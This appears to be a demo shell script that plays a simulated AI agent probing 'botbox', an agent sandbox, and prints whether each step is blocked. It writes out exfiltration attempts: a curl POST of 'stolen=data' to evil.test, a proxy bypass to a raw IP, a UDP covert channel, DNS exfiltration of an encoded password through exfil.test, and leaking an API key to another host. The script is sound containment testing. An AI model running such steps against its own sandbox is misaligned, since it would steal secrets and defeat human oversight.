#!/bin/sh
# The demo's "AI agent": runs inside `botbox run` and tries, one step at a
# time, what an agent might do, good and bad. Every step prints what it
# tried and what happened; the audit table after the run shows how botbox
# saw the same steps.
INTERNET=$1 # the demo internet's address (a real agent might learn it anywhere)

step() { printf '\n\033[1m[%s] %s\033[0m\n' "$1" "$2"; }
say() { printf '    %s\n' "$*"; }
result() { printf '    => %s\n' "$*"; }

step 1 "Call the LLM API, allowed by the policy. I hold no key, only a placeholder."
say "my environment has LLM_API_KEY=$LLM_API_KEY (made by botbox, not the key)"
out=$(curl -sS --max-time 5 -X POST https://api.llm.test/v1/chat \
    -H "Authorization: Bearer $LLM_API_KEY" -d '{"q":"hi"}' 2>&1)
result "the API answered: $out"
say "(the server echoes what it received: the real key, which botbox put in;"
case $out in
*"Bearer $LLM_API_KEY"*) say " botbox replaced it by my placeholder in the answer: the key never reached me)" ;;
*) say " and I can read it: this should never happen)" ;;
esac

step 2 "Use the same API for something the policy does not allow (GET /admin)."
code=$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' https://api.llm.test/admin 2>&1)
result "HTTP $code (forbidden by policy; no key was added)"

step 3 "Send data to a host no rule allows, even knowing its address."
code=$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -X POST -d 'stolen=data' \
    --resolve "evil.test:443:$INTERNET" https://evil.test/upload 2>&1)
result "HTTP $code (denied: evil.test is not in the policy)"

step 4 "Bypass botbox: HTTPS straight to the server's IP address."
if curl -sS --max-time 5 --noproxy '*' -o /dev/null "https://$INTERNET/" 2>/dev/null; then
    result "it worked (this should never happen)"
else
    result "BLOCKED: the connection was refused (no name, nothing to allow)"
fi

step 5 "Send a UDP datagram (QUIC, or a covert channel)."
if python3 -c "
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b'ping', (sys.argv[1], 9999)); s.recv(16)" "$INTERNET" 2>/dev/null; then
    result "an answer came back (this should never happen)"
else
    result "DROPPED: no answer; botbox logged and dropped the datagram"
fi

step 6 "Exfiltrate a secret through DNS: look up <secret>.exfil.test."
name="$(printf 'my-password' | base32 | tr -d '=' | tr 'A-Z' 'a-z').exfil.test"
status=$(dig +time=2 +tries=1 "$name" | sed -n 's/.*status: \([A-Z]*\),.*/\1/p')
result "$name -> $status (the name is not allowed; no resolver ever saw it)"

step 7 "Send my placeholder to another host (the API's docs site, allowed for GET)."
code=$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' \
    "https://docs.llm.test/search?q=$LLM_API_KEY" 2>&1)
result "HTTP $code (refused: the key is bound to api.llm.test only, nothing was sent)"
